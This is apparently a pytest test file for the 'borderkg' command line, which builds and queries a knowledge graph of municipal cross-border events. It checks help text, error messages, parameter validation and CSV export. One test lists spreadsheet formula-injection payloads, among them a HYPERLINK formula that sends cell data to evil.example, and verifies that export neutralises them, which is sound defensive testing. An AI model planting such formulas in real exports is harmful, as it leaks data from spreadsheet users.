"""The command line: every command has help, errors are one line, query needs no NER."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from click.testing import CliRunner

from borderkg.cli import cli
from borderkg.store import OxigraphStore

from conftest import ROOT


def test_every_command_has_help_text():
    for name, command in cli.commands.items():
        assert command.help and len(command.help) > 20, name
        result = CliRunner().invoke(cli, [name, "--help"])
        assert result.exit_code == 0, name


def test_extract_prints_the_gold_schema(report_txt_path):
    result = CliRunner().invoke(cli, ["extract", str(report_txt_path)])
    assert result.exit_code == 0
    records = [json.loads(line) for line in result.output.splitlines()]
    assert [r["n"] for r in records] == [61, 75, 76]
    assert list(records[0]) == ["doc", "n", "municipality", "date_start", "date_end", "online", "venue",
                                "by_places", "by_country_mentioned", "countries", "by_orgs", "twins",
                                "agreements"]
    assert records[2]["online"] is True and records[1]["date_start"] == "2025-04"


def test_build_and_query_end_to_end(tmp_path, report_txt_path):
    store = tmp_path / "store"
    runner = CliRunner()
    built = runner.invoke(cli, ["build", "--quiet", "--store", str(store), str(report_txt_path)])
    assert built.exit_code == 0, built.output
    assert "events" in built.output
    result = runner.invoke(cli, ["query", "partners-of-municipality", "--store", str(store),
                                 "-p", "municipality=Хиславичский муниципальный округ", "--format", "json"])
    assert result.exit_code == 0, result.output
    partners = {row["partner"] for row in json.loads(result.output)}
    assert {"Мстиславль", "Сенненский район", "Мстиславский район"} <= partners


def test_build_exits_non_zero_and_names_the_bad_file(tmp_path, report_txt_path):
    bad = tmp_path / "bad.docx"
    bad.write_bytes(b"not a zip")
    result = CliRunner().invoke(cli, ["build", "--quiet", "--store", str(tmp_path / "s"),
                                      str(report_txt_path), str(bad)])
    assert result.exit_code == 1
    assert "bad.docx" in result.output and "Traceback" not in result.output


def test_unknown_query_is_a_clean_error(tmp_path):
    OxigraphStore(tmp_path / "store").close()
    result = CliRunner().invoke(cli, ["query", "no-such-query", "--store", str(tmp_path / "store")])
    assert result.exit_code == 1
    assert "no saved query named 'no-such-query'" in result.output


def test_query_on_a_missing_store_is_a_clean_error(tmp_path):
    result = CliRunner().invoke(cli, ["query", "twin-links", "--store", str(tmp_path / "none")])
    assert result.exit_code == 1 and "borderkg build" in result.output


def test_query_does_not_load_the_nlp_stack(tmp_path, report_txt_path):
    store = tmp_path / "store"
    CliRunner().invoke(cli, ["build", "--quiet", "--store", str(store), str(report_txt_path)])
    code = ("import sys; from borderkg.cli import main; sys.argv=['borderkg','query','twin-links','--store',%r];\n"
            "try:\n    main()\nexcept SystemExit:\n    pass\n"
            "heavy=[m for m in ('natasha','spacy','pymorphy3','slovnet','navec','docx','trafilatura') if m in sys.modules]\n"
            "print('HEAVY', heavy)") % str(store)
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT).stdout
    assert "HEAVY []" in out, out


@pytest.fixture
def empty_store(tmp_path):
    OxigraphStore(tmp_path / "empty").close()
    return str(tmp_path / "empty")


@pytest.mark.parametrize("query, param, expected", [
    ("new-partnerships", "from=2025-13-45", "parameter from: '2025-13-45' is not a date (YYYY-MM-DD"),
    ("new-partnerships", "to=2025-02-30", "parameter to: '2025-02-30' is not a date (YYYY-MM-DD"),
    ("events-in-place-window", "from=1.4.2025", "parameter from: '1.4.2025' is not a date (YYYY-MM-DD"),
    ("top-organisations", "top=five", "parameter top: 'five' is not a whole number"),
])
def test_a_typed_parameter_is_checked(empty_store, query, param, expected):
    result = CliRunner().invoke(cli, ["query", query, "-p", param, "--store", empty_store])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert len(result.output.strip().splitlines()) == 1 and expected in result.output


FORMULAS = ["=1+1", "+7(4812)38-41-01", "@SUM(1;1)", '=HYPERLINK("http://evil.example/?"&A1;"подробнее")',
            "\t=1+1", "-2+3"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    from pyoxigraph import Literal, NamedNode, Quad

    from borderkg.export import read_table
    from borderkg.vocab import ID, SCHEMA

    store = OxigraphStore(tmp_path / "store")
    graph = NamedNode(ID + "graph/formulas")
    quads = []
    for i, name in enumerate(FORMULAS + ["-12", "Рудня"]):
        event = NamedNode(f"{ID}event/formulas/{i}")
        quads += [Quad(event, NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type"),
                       NamedNode(SCHEMA + "Event"), graph),
                  Quad(event, NamedNode(SCHEMA + "name"), Literal(name), graph)]
    store.replace_graph(graph.value, quads)
    store.close()
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--out", str(tmp_path / "csv"),
                                      "--store", str(tmp_path / "store")])
    assert result.exit_code == 0, result.output
    header, rows = read_table(tmp_path / "csv" / "events.csv")
    names = {row[header.index("name")] for row in rows}
    assert names == {"'" + f for f in FORMULAS} | {"-12", "Рудня"}  # a negative number stays a number
    (tmp_path / "names.rq").write_text("SELECT ?name WHERE { ?e a schema:Event ; schema:name ?name }",
                                       encoding="utf-8")
    queried = CliRunner().invoke(cli, ["query", str(tmp_path / "names.rq"), "--format", "csv",
                                       "--store", str(tmp_path / "store")])
    assert queried.exit_code == 0, queried.output
    assert set(queried.output.splitlines()[1:]) >= {"'=1+1", "'@SUM(1;1)", "-12"}


def test_build_says_which_stored_documents_keep_a_former_extraction(tmp_path, report_txt_path, monkeypatch):
    from borderkg import ingest

    monkeypatch.setattr(ingest, "build", lambda *args, **kwargs: ingest.BuildReport(
        stored=[str(report_txt_path)], stale=["b.txt", "c.txt"]))
    result = CliRunner().invoke(cli, ["build", "--quiet", "--store", str(tmp_path / "s"), str(report_txt_path)])
    assert result.exit_code == 0
    assert ("the pipeline (code, gazetteer or curation) changed since the store was built: 2 stored document(s) "
            "this build did not read keep their former extraction (first: b.txt)") in result.output
